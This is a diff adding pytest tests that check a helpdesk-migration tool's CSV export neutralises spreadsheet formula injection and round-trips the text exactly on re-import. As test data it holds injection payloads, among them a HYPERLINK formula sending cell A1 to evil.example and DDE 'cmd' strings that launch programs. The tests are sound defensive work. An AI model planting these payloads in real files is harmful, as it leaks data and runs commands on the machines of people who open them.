@@ -4,9 +4,10 @@ from __future__ import annotations
 
 import pytest
 
+from deskmove.model import Message, Person, Ticket
 from deskmove.sync import import_source
 from tests.csvhelp import MESSAGE_HEADER, TICKET_HEADER, message_row, ticket_row, write_csv
-from tests.test_csv_source import quarantined
+from tests.test_csv_source import quarantined, rows
 
 RUSSIAN = "Здравствуйте, мой заказ № 42 не пришёл. Ирина Петрова "
 
@@ -61,3 +62,86 @@ def test_a_small_czech_file_with_one_bad_byte_stays_utf8(project, store, tmp_pat
     rep = import_source(project, store, f"csv:{path}")
     assert rep.notes[0].startswith("t.csv: utf-8")
     assert rep.imported == 3 and rep.quarantined == 1
+
+
+# -- formula injection -------------------------------------------------------------
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Klikněte")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "'quoted from the start",
+    "''=already escaped once?",
+    "Plain text, not touched",
+]
+
+
+def _hostile_folder(tmp_path):
+    folder = tmp_path / "hostile"
+    tickets = [ticket_row(str(i), subject=s, tags="=tag") for i, s in enumerate(HOSTILE, 1)]
+    messages = [
+        message_row(str(i), str(i), body=s, author_name=s, author_email=f"c{i}@x.example")
+        for i, s in enumerate(HOSTILE, 1)
+    ]
+    write_csv(folder / "tickets.csv", TICKET_HEADER, tickets)
+    write_csv(folder / "messages.csv", MESSAGE_HEADER, messages)
+    return folder
+
+
+def _cells(folder):
+    import csv
+
+    for name in ("tickets.csv", "messages.csv", "people.csv"):
+        with (folder / name).open(encoding="utf-8", newline="") as f:
+            yield from (cell for row in csv.reader(f) for cell in row)
+
+
+def test_export_neutralises_formula_cells_and_import_gives_back_the_exact_text(
+    project, store, tmp_path
+):
+    from tests.csvhelp import dump
+    from tests.test_roundtrip import fresh
+
+    rep = import_source(project, store, f"csv:{_hostile_folder(tmp_path)}")
+    assert rep.imported and not rep.quarantined
+    from deskmove.sync import export_target
+
+    out = tmp_path / "out"
+    export_target(project, store, f"csv:{out}")
+    cells = list(_cells(out))
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Klikněte")' in cells
+    assert "'''=already escaped once?" in cells and "Plain text, not touched" in cells
+    other_project, other_store = fresh(tmp_path / "again")
+    import_source(other_project, other_store, f"csv:{out}")
+    try:
+        assert dump(other_store) == dump(store)
+        assert sorted(r[0] for r in rows(other_store, Ticket, "subject")) == sorted(HOSTILE)
+        assert sorted(r[0] for r in rows(other_store, Message, "body_text")) == sorted(HOSTILE)
+        assert set(HOSTILE) <= {r[0] for r in rows(other_store, Person, "name")}
+    finally:
+        other_store.close()
+
+
+def test_formulas_raw_keeps_the_values_for_machines(project, store, tmp_path):
+    from deskmove.sync import export_target
+
+    import_source(project, store, f"csv:{_hostile_folder(tmp_path)}")
+    out = tmp_path / "raw"
+    export_target(project, store, f"csv:{out}?formulas=raw")
+    cells = list(_cells(out))
+    assert "+cmd|' /C calc'!A0" in cells and "'quoted from the start" in cells
+
+
+def test_a_leading_quote_in_someone_elses_csv_is_kept(project, store, tmp_path):
+    path = write_csv(tmp_path / "t.csv", TICKET_HEADER, [ticket_row("1", subject="'Quoted' title")])
+    import_source(project, store, f"csv:{path}")
+    assert rows(store, Ticket, "subject") == [("'Quoted' title",)]
+
+
+def test_an_unknown_formulas_mode_is_refused(cli, tmp_path):
+    result = cli("export", f"csv:{tmp_path / 'x'}?formulas=maybe")
+    assert result.exit_code == 2
+    assert "?formulas=maybe is not a mode" in result.stderr
